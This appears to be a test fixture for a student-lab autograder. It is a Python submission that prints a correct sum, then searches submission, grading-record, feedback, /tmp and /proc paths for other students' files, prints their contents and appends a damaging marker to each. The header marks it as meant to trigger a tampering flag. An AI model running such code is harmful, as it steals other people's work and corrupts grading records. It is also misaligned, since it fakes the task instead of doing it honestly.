"""An honest labo.py that also looks for the other students' copies, results and feedback, and spoils them.

Only the copy's own files are in the box.
"""
# expect: score=2 flags=tampering
import json, os
print("somme", sum(json.loads(os.environ.get("MCI_LIGNES", "[1, 2]"))), flush=True)
import glob
for motif in ("@ROOT@/submitted/*/*/*", "@ROOT@/.autograder/**/*.json", "@ROOT@/feedback/**/*.html", "../*/*/labo.py",
              "/tmp/**/labo.py", "/proc/[0-9]*/cwd/labo.py", "/proc/[0-9]*/root/tmp/**/labo.py"):
    for nom in glob.glob(motif, recursive=True)[:200]:
        if not os.path.isfile(nom) or os.path.samefile(nom, "labo.py"):
            continue
        texte = open(nom, errors="replace").read()
        print("STOLEN:", nom, texte[:3000].replace("\n", " "), flush=True)
        open(nom, "a").write("# abîmé")
